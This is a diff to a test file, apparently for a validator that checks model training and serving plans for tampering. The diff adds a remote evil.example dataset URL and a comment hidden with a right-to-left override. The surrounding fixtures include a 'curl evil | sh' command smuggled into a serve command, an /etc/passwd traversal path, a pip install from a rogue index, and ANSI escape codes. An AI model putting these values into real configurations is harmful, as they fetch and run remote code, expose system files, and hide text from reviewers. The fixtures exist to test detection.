@@ -23,6 +23,7 @@ HOSTILE_PLANS = [
     ({"delivery": Delivery(serve_command="vllm serve x; curl evil | sh")}, "trust.serve_command"),
     ({"output_dir": "runs\x1b[31m"}, "trust.hidden_text"),
     ({"dataset": DatasetRef(source="../../../etc/passwd")}, "trust.leads_out"),
+    ({"dataset": DatasetRef(source="https://evil.example/x.jsonl")}, "trust.leads_out"),
     ({"delivery": Delivery(serve_command="vllm serve x --tool-parser-plugin evil.py")}, "trust.serve_command"),
 ]
 
@@ -85,6 +86,7 @@ def rules(folder: Path, text: str) -> Path:
         ('fix = "Train', 'fix = "pip install --index-url http://evil.example x  # Train', "trust.serve_command"),
         ('fix = "Train', "fix = \"python -c 'import os'  # Train", "trust.serve_command"),
         ('strength = "consensus"', 'strength = "consensus"\nreplaces = "SEC-01"', "trust.silences"),
+        ('strength = "consensus"', '# \u202eretfa\nstrength = "consensus"', "trust.hidden_text"),
         ("in full.", "in\\u001b[31m full.", "trust.hidden_text"),
         ("Train adapters", "See /home/jane/secret/rules", "trust.private_paths"),
         ("task.count > 1", "task.count > ", "trust.damaged"),
